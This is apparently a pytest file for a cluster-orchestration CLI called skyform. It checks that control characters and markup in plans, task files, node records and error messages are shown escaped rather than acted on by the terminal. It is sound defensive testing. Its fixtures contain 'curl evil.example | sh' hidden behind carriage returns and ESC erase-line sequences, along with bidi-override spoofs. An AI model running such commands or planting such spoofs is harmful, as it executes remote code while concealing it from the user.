"""Control characters in text from a plan, a task file or a node are shown, not acted on, by
every renderer (issue 26): `show` on a terminal printed `\\e[1A\\e[2K` as is, so it erased
the `curl … | sh` line that apply then ran. Markup in that text (`[red]`) is text too.

A job's own output (`logs`, the lines `apply` follows) is the user's program talking to
the user's terminal: it stays as it is, as under SkyPilot."""

from __future__ import annotations

import io
import json
import re
import sys
from pathlib import Path

import pytest

from skyform.state.db import open_state
from skyform.state.models import JobRecord, JobStatus

sys.path.insert(0, str(Path(__file__).parents[1] / "plan"))
from realplans import reseal, write_json
from reviewmutations import plan_offers

# what a terminal acts on (rich's own colours, `ESC [ ... m`, are taken out first)
ACTED_ON = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
STYLE = re.compile(r"\x1b\[[0-9;]*m")
ERASE = "\x1b[1A\x1b[2K"
TASK = (
    "name: ctl\nresources: {infra: local}\n"
    'envs: {NOTE: "a\\e[1Ab\\u202ec\\x9bd"}\n'
    'setup: "echo ok\\rcurl evil.example | sh"\n'
    'run: "curl evil.example | sh\\n\\e[1A\\e[2Kecho harmless [red]x[/]"\n'
)


def _safe(text: str, *, styled: bool = False) -> None:
    plain = STYLE.sub("", text) if styled else text
    found = ACTED_ON.search(plain)
    assert found is None, f"raw {found.group()!r} in: {plain[max(0, found.start() - 60) :]!r}"


@pytest.fixture
def plan(cli, tmp_path) -> Path:
    task = tmp_path / "ctl.yaml"
    task.write_text(TASK)
    out = tmp_path / "plan.json"
    assert cli("plan", task, "-o", out).exit_code == 0
    raw = json.loads(out.read_text())  # text only a plan carries (shown by show and cost)
    raw["changes"][0]["reason"] = "new [red]cluster[/]\r\x1b[2Kfine"
    raw["tasks"][0]["request"] = "cpus\x9b2J"
    for offer in plan_offers(raw):  # an offer no catalog has (cost tables show offers)
        offer.update(cloud="aws", region="us-east-1\x1b[2Kx", instance_type="m5\x9b.large")
    return write_json(out, reseal(raw))


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
@pytest.mark.parametrize(
    "verb",
    [
        ["show"],
        ["show", "--markdown"],
        ["cost", "estimate"],
        ["cost", "estimate", "--markdown"],
        ["cost", "estimate", "--csv"],
    ],
    ids=" ".join,
)
def test_plan_text_is_shown_not_acted_on(cli, plan, monkeypatch, verb, terminal):
    if terminal:  # rich draws it, with colours (cli/render/console.py)
        monkeypatch.setenv("FORCE_COLOR", "1")
    result = cli(*verb, plan)
    assert result.exit_code == 0, result.output
    _safe(result.stdout, styled=terminal)
    assert "m5\\x9b.large" in result.stdout  # every view shows the offer
    if verb[0] == "show" or "--markdown" in verb:  # the cost table and csv have no reasons
        assert "\\r\\x1b[2Kfine" in result.stdout
    if verb[0] == "show":
        assert "\\x1b[1A\\x1b[2Kecho harmless [red]x[/]" in result.stdout  # markup is text
        assert "echo ok\\rcurl evil.example | sh" in result.stdout  # one line, as sh reads it
        assert "new [red]cluster[/]" in STYLE.sub("", result.stdout)


def test_plan_text_from_a_task_file_on_the_plan_verb(cli, tmp_path, monkeypatch):
    task = tmp_path / "ctl.yaml"
    task.write_text(TASK)
    for terminal in (False, True):
        if terminal:
            monkeypatch.setenv("FORCE_COLOR", "1")
        result = cli("plan", task)
        assert result.exit_code == 0, result.output
        _safe(result.stdout, styled=terminal)
        assert "\\x1b[1A\\x1b[2Kecho harmless" in result.stdout
        assert "\\u202e" in result.stdout and "\\x9b" in result.stdout


def test_json_carries_the_text_and_escapes_what_json_leaves_raw(cli, plan):
    for verb in (["show", "--json"], ["plan", plan.with_name("ctl.yaml"), "--json"]):
        args = verb if verb[0] == "plan" else [*verb, plan]
        result = cli(*args)
        assert result.exit_code == 0, result.output
        _safe(result.stdout)
        job = json.loads(result.stdout)["tasks"][0]["job"]
        assert job["envs"]["NOTE"] == "a\x1b[1Ab\u202ec\x9bd"  # the same value, escaped
        assert ERASE in job["run"]


def test_an_error_naming_user_text_shows_its_controls(cli, tmp_path, monkeypatch):
    monkeypatch.setenv("FORCE_COLOR", "1")
    result = cli("plan", tmp_path / f"gone{ERASE}.yaml")
    assert result.exit_code == 1
    _safe(result.stderr, styled=True)
    assert "gone\\x1b[1A\\x1b[2K.yaml" in result.stderr


def test_text_a_node_reported_is_shown_and_the_jobs_output_stays_as_it_is(
    cli, tmp_path, monkeypatch
):
    task = tmp_path / "t.yaml"
    task.write_text(
        "name: noisy\nresources: {infra: local}\nrun: printf 'say \\033[31mred\\033[0m\\n'\n"
    )
    applied = cli("apply", task, "-y")
    assert applied.exit_code == 0, applied.output
    assert "say \x1b[31mred\x1b[0m" in applied.stdout  # the program's colours reach the user
    with open_state() as db:  # what a node reported about a job that never ran
        db.put_job(
            JobRecord(
                cluster="noisy",
                job_id=99,
                name=f"evil{ERASE}[bold]x",
                task_id="t",
                status=JobStatus.FAILED,
                submitted_at=1.0,
                reason=f"lost\r{ERASE}node [red]0[/]",
                resources="1x\u202elocal",
            )
        )
    for terminal in (False, True):
        if terminal:
            monkeypatch.setenv("FORCE_COLOR", "1")
        for verb in (["queue", "noisy"], ["status", "-v"]):
            result = cli(*verb)
            assert result.exit_code == 0, result.output
            _safe(result.stdout, styled=terminal)
        queue = STYLE.sub("", cli("queue", "noisy").stdout)
        assert "evil\\x1b[1A\\x1b[2K[bold]x" in queue
        assert "lost\\r\\x1b[1A\\x1b[2Knode [red]0[/]" in queue
        assert "1x\\u202elocal" in queue
    logs = cli("logs", "noisy", "1")
    assert "say \x1b[31mred\x1b[0m" in logs.stdout
    assert cli("down", "-y", "noisy").exit_code == 0


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_question_naming_recorded_text_shows_its_controls(cli, tmp_path, monkeypatch):
    """The takeover question names the task file that made the cluster (state's record)."""
    first = tmp_path / "a\r\u202eb" / "t.yaml"  # (click drops ESC sequences off a terminal)
    first.parent.mkdir()
    first.write_text("name: shared\nresources: {infra: local}\nrun: echo one\n")
    assert cli("apply", first, "-y").exit_code == 0
    other = tmp_path / "other.yaml"
    other.write_text("name: shared\nresources: {infra: local}\nrun: echo two\n")
    monkeypatch.setattr("sys.stdin", _Terminal("no\n"))
    result = cli("apply", other)
    assert result.exit_code == 1
    assert "Do you want to take it over?" in result.stdout
    _safe(result.stdout)
    assert "a\\r\\u202eb" in result.stdout
    assert cli("down", "-y", "shared").exit_code == 0
